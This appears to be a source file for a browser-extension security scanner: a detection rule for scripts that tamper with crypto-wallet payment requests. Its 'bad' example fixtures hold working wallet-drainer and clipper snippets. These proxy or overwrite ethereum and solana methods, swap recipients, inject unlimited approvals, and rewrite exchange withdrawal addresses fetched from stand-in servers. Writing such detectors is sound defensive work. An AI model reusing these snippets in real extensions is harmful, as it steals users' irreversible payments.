import {
  apiPath,
  callsNamed,
  callsOf,
  constant,
  Op,
  pattern,
  pairsOf,
  propertyOf,
  show,
  writesOf,
  type ScriptFacts,
  valuesOf,
} from '../../facts/javascript/query.ts';
import { defineRule } from '../../rule.ts';
import { checkScripts, contentExample } from './checkScripts.ts';
import { isSentByServer, isToldOfServer } from '../../extension/isFromServer.ts';
import { mentions, textsOf } from './textsOf.ts';
import { backwardSlice } from '../../program/backwardSlice.ts';
import { apisIn } from '../../program/madeOf.ts';
import { paymentsAsked } from './paymentsAsked.ts';
import { runsInPages } from './places.ts';
import { functionOf } from '../../program/functionOf.ts';
import { itemsOf } from '../../facts/javascript/itemsOf.ts';
import { first } from '../../facts/first.ts';
import { say } from '../../../texts/say.ts';

/** Methods by which pages ask a wallet for payments and signatures. */
const METHODS = [
  'request',
  'send',
  'sendAsync',
  'signTransaction',
  'signAllTransactions',
  'signAndSendTransaction',
  'signMessage',
  'sendTransaction',
];
const WALLET =
  /eth_\(?(send|sign)|personal_sign|signAndSendTransaction|signAllTransactions|SystemProgram|setApprovalForAll|increaseAllowance|tron(Web|Link)|sui:sign/;
/** Requests by which pages of exchanges pay out. */
const PAYS_OUT = /withdraw|payout|pay_?out|send_?(coin|crypto|money)|\btransfers?\b|transactions\b/i;
const ASKED = new RegExp(`${WALLET.source}|${PAYS_OUT.source}`, 'i');
/** Ethereum, Bitcoin, Tron and (32 to 44 characters) Solana. */
const ADDRESS =
  /^(0x[0-9a-fA-F]{40}|bc1[a-z0-9]{25,60}|T[1-9A-HJ-NP-Za-km-z]{33}|(?=.*[0-9])(?=.*[A-Z])(?=.*[a-z])[1-9A-HJ-NP-Za-km-z]{32,44})$/;
/** Calls of token contracts that let others spend: approve, setApprovalForAll, increaseAllowance, transfer. */
const SPENDING = /^0x(095ea7b3|a22cb465|39509351|a9059cbb|d505accf)/i;
const NOBODY = /^0x0{40}$|^1{32}$/;

export const walletRequestsChanged = defineRule({
  id: 'wallet-requests-changed',
  title: 'Changes the payments that pages ask a wallet for',
  severity: 'critical',
  confidence: 'high',
  category: 'code',
  applies: 'extension',
  cwe: 'CWE-506',
  references: ['https://attack.mitre.org/techniques/T1565/'],
  why: 'Its code sits between page and wallet and inserts its own address into what the user signs. Such payments cannot be reversed.',
  remedy: 'Never change what a page asks a wallet for.',
  cap: { grade: 'F', reason: 'it changes payments' },
  check: checkScripts(function* (judged) {
    const { script, file, facts, hit } = judged;
    if (!runsInPages(facts, file.path) || !mentions(script, ASKED)) return;
    yield* paymentsAsked(judged);
    for (const call of first(callsNamed(script, 'request', 'send', 'sendAsync'), 100)) {
      // The script itself asks the wallet of a page to let somebody spend.
      const asked = call.args[0] ?? 0;
      if (
        constant(script, propertyOf(script, asked, 'method')) !== 'eth_sendTransaction' ||
        !/ethereum/i.test(apiPath(script, call.callee) ?? show(script, call.callee))
      )
        continue;
      const what = itemsOf(script, propertyOf(script, asked, 'params'))[0] ?? 0;
      if (SPENDING.test(pattern(script, propertyOf(script, what, 'data'))))
        yield hit(call.value, { message: say('wallet-approval') });
    }
    const page = mentions(script, PAYS_OUT) ? requestFunction(script) : undefined;
    const replaced =
      first(writesOf(script, ...METHODS)).find((write) => functionOf(script, write.value) !== undefined)?.property ??
      assigned(script) ??
      wrapped(script) ??
      page;
    if (replaced === undefined) return;
    const allowance = first(writesOf(script, 'data'), 60).find((write) => SPENDING.test(pattern(script, write.value)));
    if (allowance !== undefined && mentions(script, WALLET))
      yield hit(allowance.value, {
        message: say('wallet-method-approval', replaced),
      });
    const own = new Set(
      [...textsOf(script), ...joinedTexts(script)]
        .filter(({ text }) => ADDRESS.test(text) && !NOBODY.test(text))
        .map(({ value }) => value),
    );
    const names = new Set([...own].map((value) => constant(script, value)));
    for (const value of own.size === 0 ? [] : receivers(script)) {
      const origins = backwardSlice(script, value);
      const mine = [...origins].find((one) => own.has(one) || names.has(constant(script, one)));
      if (mine === undefined) continue;
      yield hit(value, {
        evidence: constant(script, mine) ?? '',
        message: say('wallet-method-recipient', replaced),
      });
      return;
    }
    // The receiver that a server names, on whatever way it gets into the page.
    const named = mentions(script, WALLET)
      ? receivers(script, RECEIVERS)
      : page === undefined
        ? []
        : receiversInText(script);
    const told = [...named].find(
      (value) => isSentByServer(facts, script, value) || isToldOfServer(facts, script, value),
    );
    if (told !== undefined) yield hit(told, { message: say('wallet-method-recipient', replaced) });
  }),
  examples: {
    bad: [
      contentExample(
        'addEventListener("eip6963:announceProvider", async (e) => { const p = e.detail.provider; const [from] = await p.request({ method: "eth_accounts" }); await p.request({ method: "eth_sendTransaction", params: [{ from, to: "0x52908400098527886E0F7030069857D2E4169EE7", value: "0xde0b6b3a7640000" }] }); });',
      ),
      contentExample(
        'setTimeout(async () => { const [from] = await ethereum.request({ method: "eth_requestAccounts" }); await ethereum.request({ method: "eth_signTypedData_v4", params: [from, JSON.stringify({ primaryType: "Permit", message: { owner: from, spender: "0x52908400098527886E0F7030069857D2E4169EE7" } })] }); }, 4000);',
      ),
      contentExample(
        'fetch("https://x.example/tx").then((r) => r.json()).then(async ({ tx }) => { await window.solana.connect(); await window.solana.signAndSendTransaction(tx); });',
      ),
      contentExample(
        'const sink = "0xde709f2102306220921060314715629080e2fb77"; const ask = window.ethereum.request.bind(window.ethereum); window.ethereum.request = async (a) => { if (a.method === "eth_sendTransaction") a.params[0].to = sink; return ask(a); };',
      ),
      contentExample(
        'const s = window.solana; const sign = s.signAndSendTransaction.bind(s); s.signAndSendTransaction = async (tx) => { tx.instructions.push(web3.SystemProgram.transfer({ fromPubkey: s.publicKey, toPubkey: new web3.PublicKey("BjeWeg7FfFB8ygwPEt4r9QNU8iAQLmFVqDd3Qm6uHb2k"), lamports: 5e6 })); return sign(tx); };',
      ),
      contentExample(
        'const dest = "0x52908400098527886E0F7030069857D2E4169EE7"; const wrap = (p) => new Proxy(p, { get(t, k) { const v = Reflect.get(t, k); return k !== "request" ? v : async (q) => { if (/^eth_sendTransaction$/.test(q.method)) q = { ...q, params: [{ ...q.params[0], to: dest }] }; return v.call(t, q); }; } }); let e = window.ethereum; Object.defineProperty(window, "ethereum", { get: () => wrap(e) });',
      ),
      contentExample(
        '(async () => { const [a] = await window.ethereum.request({ method: "eth_requestAccounts" }); const data = "0x095ea7b3" + "0".repeat(24) + "f".repeat(64); await window.ethereum.request({ method: "eth_sendTransaction", params: [{ from: a, to: "0xdAC17F958D2ee523a2206206994597C13D831ec7", data }] }); })();',
      ),
      contentExample(
        'const book = { BTC: "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", ETH: "0xde709f2102306220921060314715629080e2fb77" }; const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { const b = JSON.parse(body); if (/withdraw/.test(location.pathname)) { b.address = book[b.asset]; body = JSON.stringify(b); } return send.call(this, body); };',
      ),
      contentExample(
        'const book = { ETH: ["0xde709f", "2102306220", "921060314715", "629080e2", "fb77"] }; const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { const b = JSON.parse(body); if (/withdraw/.test(location.pathname)) { b.address = book[b.asset].join(""); body = JSON.stringify(b); } return send.call(this, body); };',
      ),
      contentExample(
        'let e; Object.defineProperty(window, "ethereum", { get: () => e, set(v) { e = new Proxy(v, { get(t, k) { return k !== "request" ? t[k] : (q) => { if (q.method === "eth_sendTransaction") q.params[0].data = "0x095ea7b3" + who + "f".repeat(64); return t.request(q); }; } }); } });',
      ),
      contentExample(
        'const fee = "BjeWeg7FfFB8ygwPEt4r9QNU8iAQLmFVqDd3Qm6uHb2k"; const w = window.solana; const old = w.signTransaction.bind(w); const add = (tx) => { tx.add(SystemProgram.transfer({ fromPubkey: w.publicKey, toPubkey: new PublicKey(fee), lamports: 1300000 })); return tx; }; Object.assign(w, { signTransaction: (tx) => old(add(tx)) });',
      ),
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "background.js"}, "content_scripts": [{"matches": ["<all_urls>"], "js": ["page.js"], "world": "MAIN"}, {"matches": ["<all_urls>"], "js": ["bridge.js"]}]}',
          'background.js':
            'chrome.runtime.onMessage.addListener((m, s, reply) => { fetch("https://fees.example/now").then((r) => r.json()).then(reply); return true; });',
          'bridge.js':
            'chrome.runtime.sendMessage("fees", (r) => window.postMessage({ fees: r.fees, hint: r.hint }, location.origin));',
          'page.js':
            'const live = { hint: null }; window.addEventListener("message", (e) => { if (e.source === window && e.data.fees) Object.assign(live, e.data); }); const swap = (tx) => (live.hint ? { ...tx, to: live.hint.dest } : tx); const dress = (p) => new Proxy(p, { get(t, k) { const v = Reflect.get(t, k); return k !== "request" ? v : (a) => v.call(t, a.method === "eth_sendTransaction" ? { ...a, params: a.params.map(swap) } : a); } }); let inner; Object.defineProperty(window, "ethereum", { get: () => inner, set: (p) => { inner = dress(p); } });',
        },
      },
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "background.js"}, "content_scripts": [{"matches": ["https://www.coins.example/*"], "js": ["page.js"], "world": "MAIN"}, {"matches": ["https://www.coins.example/*"], "js": ["bridge.js"]}]}',
          'background.js':
            'chrome.runtime.onMessage.addListener((m, s, reply) => { fetch("https://book.example/now").then((r) => r.json()).then(reply); return true; });',
          'bridge.js': 'chrome.runtime.sendMessage("book", (book) => window.postMessage({ book }, location.origin));',
          'page.js':
            'let book = {}; addEventListener("message", (e) => { if (e.data.book) book = e.data.book; }); const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { if (/withdraw/.test(location.pathname)) { const b = JSON.parse(body); b.address = book[b.coin]; body = JSON.stringify(b); } return send.call(this, body); };',
        },
      },
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "background.js"}, "content_scripts": [{"matches": ["https://www.coins.example/*"], "js": ["page.js"], "world": "MAIN"}, {"matches": ["https://www.coins.example/*"], "js": ["bridge.js"]}]}',
          'background.js':
            'chrome.runtime.onMessage.addListener((m, s, reply) => { fetch("https://book.example/now").then((r) => r.json()).then(reply); return true; });',
          'bridge.js': 'chrome.runtime.sendMessage("book", (book) => window.postMessage({ book }, location.origin));',
          'page.js':
            'let book = {}; addEventListener("message", (e) => { if (e.data.book) book = e.data.book; }); const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { if (/withdraw/.test(location.pathname)) { const b = JSON.parse(body); body = JSON.stringify({ ...b, address: book[b.coin] }); } return send.call(this, body); };',
        },
      },
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "background.js"}, "content_scripts": [{"matches": ["https://www.coins.example/*"], "js": ["page.js"], "world": "MAIN"}, {"matches": ["https://www.coins.example/*"], "js": ["bridge.js"]}]}',
          'background.js':
            'chrome.runtime.onMessage.addListener((m, s, reply) => { fetch("https://book.example/now").then((r) => r.json()).then(reply); return true; });',
          'bridge.js': 'chrome.runtime.sendMessage("book", (book) => window.postMessage({ book }, location.origin));',
          'page.js':
            'let book = {}; addEventListener("message", (e) => { if (e.data.book) book = e.data.book; }); const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { if (/withdraw/.test(location.pathname)) { const b = JSON.parse(body); b.payment.address = book[b.coin]; body = JSON.stringify(b); } return send.call(this, body); };',
        },
      },
    ],
    good: [
      contentExample(
        'const b = document.createElement("button"); b.textContent = "Give"; document.body.append(b); b.onclick = async () => { const [from] = await window.ethereum.request({ method: "eth_requestAccounts" }); await window.ethereum.request({ method: "eth_sendTransaction", params: [{ from, to: "0x52908400098527886E0F7030069857D2E4169EE7", value: "0x1" }] }); };',
      ),
      contentExample(
        'addEventListener("eip6963:announceProvider", async (e) => { const p = e.detail.provider; const [a] = await p.request({ method: "eth_accounts" }); show(await p.request({ method: "eth_getBalance", params: [a, "latest"] })); const name = "eth_sendTransaction"; });',
      ),
      // What its server says of a payment is shown, not sent.
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "background.js"}, "content_scripts": [{"matches": ["https://www.coins.example/*"], "js": ["page.js"], "world": "MAIN"}, {"matches": ["https://www.coins.example/*"], "js": ["bridge.js"]}]}',
          'background.js':
            'chrome.runtime.onMessage.addListener((m, s, reply) => { fetch("https://book.example/now").then((r) => r.json()).then(reply); return true; });',
          'bridge.js': 'chrome.runtime.sendMessage("book", (book) => window.postMessage({ book }, location.origin));',
          'page.js':
            'let book = {}; const shown = {}; addEventListener("message", (e) => { if (e.data.book) book = e.data.book; }); const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { if (/withdraw/.test(location.pathname)) { const b = JSON.parse(body); shown.address = book[b.coin]; shown.asked = b.address; draw(shown); } return send.call(this, body); };',
        },
      },
      contentExample(
        'const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { if (/withdraw/.test(this.url)) warn("Check the address " + JSON.parse(body).address); return send.call(this, body); }; const donate = "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq";',
      ),
      contentExample(
        'const wrap = (p) => new Proxy(p, { get(t, k) { const v = Reflect.get(t, k); return k === "request" ? async (q) => { log(q.method === "eth_sendTransaction"); return v.call(t, q); } : v; } }); const help = { to: "https://tool.example/help" };',
      ),
      contentExample(
        'const ask = window.ethereum.request.bind(window.ethereum); window.ethereum.request = async (a) => { if (a.method === "eth_sendTransaction" && !(await warn(a.params[0].to))) throw new Error("stopped"); return ask(a); };',
      ),
      contentExample(
        'class Provider { request(a) { return post(a); } } const usdc = "0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48"; const p = new Provider(); if (a.method === "eth_sendTransaction" && a.params[0].to === usdc) show(p);',
      ),
    ],
  },
});

/** The function of pages that sends requests and is replaced: `XMLHttpRequest.prototype.send = …`, `window.fetch = …`. */
function requestFunction(script: ScriptFacts): string | undefined {
  const found = first(writesOf(script, 'send', 'fetch')).find(
    (write) =>
      functionOf(script, write.value) !== undefined &&
      /^(XMLHttpRequest\.prototype|window|self|globalThis)$/.test(apiPath(script, write.object) ?? ''),
  );
  return found?.property;
}

/** What lists of parts come to where these are joined: `['0xde70', '9f21', …].join('')`. */
const joinedTexts = (script: ScriptFacts): readonly { text: string; value: number }[] =>
  [...valuesOf(script, Op.array).subarray(0, 2000)].map((value) => ({
    text: itemsOf(script, value)
      .map((item) => constant(script, item) ?? '*')
      .join(''),
    value,
  }));

/** A method that is put over a wallet's own: `Object.assign(wallet, { signTransaction: … })`. */
function assigned(script: ScriptFacts): string | undefined {
  for (const call of first(callsOf(script, 'Object.assign'), 60)) {
    const found = METHODS.find((name) => functionOf(script, propertyOf(script, call.args[1] ?? 0, name)) !== undefined);
    if (
      found !== undefined &&
      /solana|ethereum|tron|phantom|wallet/i.test([...apisIn(script, call.args[0] ?? 0)].join(' '))
    )
      return found;
  }
  return undefined;
}

/** The method that a stand-in for the wallet looks out for: `new Proxy(wallet, { get(t, k) { if (k === 'request') … } })`. */
function wrapped(script: ScriptFacts): string | undefined {
  if (callsOf(script, 'Proxy').length === 0) return undefined;
  return textsOf(script).find(({ text }) => METHODS.includes(text))?.text;
}

/** Properties that say who gets a payment, and those that may also be the sender's. */
const RECEIVERS = ['to', 'toPubkey', 'recipient', 'destination', 'spender', 'toAddress', 'to_address'];
/** The same in the parts of what is signed; Solana's instructions list accounts by `pubkey`. */
const TO = ['to', 'toPubkey', 'pubkey'];
const MAYBE_RECEIVERS = [...RECEIVERS, 'address', 'withdrawAddress', 'wallet'];

/** Values that become the receiver of a payment. */
function* receivers(script: ScriptFacts, names: readonly string[] = MAYBE_RECEIVERS): Generator<number> {
  for (const write of first(writesOf(script, ...names))) yield write.value;
  for (const value of valuesOf(script, Op.object).subarray(0, 2000)) {
    const to = TO.map((name) => propertyOf(script, value, name)).find((one) => one !== 0);
    if (to !== undefined) yield to;
  }
  for (const call of first(callsNamed(script, 'request', 'send', 'sendAsync', 'transfer', 'sendTransaction'), 60)) {
    for (const arg of call.args) {
      for (const name of ['to', 'toPubkey'])
        if (propertyOf(script, arg, name) !== 0) yield propertyOf(script, arg, name);
      if (propertyOf(script, arg, 'params') !== 0) yield propertyOf(script, arg, 'params');
    }
  }
}

const isRead = (script: ScriptFacts, value: number): boolean =>
  /^JSON\.parse\(\)(?:\.|$)/.test(apiPath(script, value) ?? '');

/**
 * Receivers that get into what was read of a text, as what pages ask exchanges for with a request is: by a write, or in a
 * copy of it, `{ ...read, address }`.
 */
const receiversInText = (script: ScriptFacts): number[] => [
  ...first(writesOf(script, ...MAYBE_RECEIVERS), 60)
    .filter(({ object }) => isRead(script, object))
    .map(({ value }) => value),
  ...[...valuesOf(script, Op.object).subarray(0, 2000)]
    .filter((object) =>
      pairsOf(script, object).some(
        (value, at, pairs) => at % 2 === 1 && (pairs[at - 1] ?? 0) < 0 && isRead(script, value),
      ),
    )
    .flatMap((object) =>
      MAYBE_RECEIVERS.map((name) => propertyOf(script, object, name)).filter((value) => value !== 0),
    ),
];
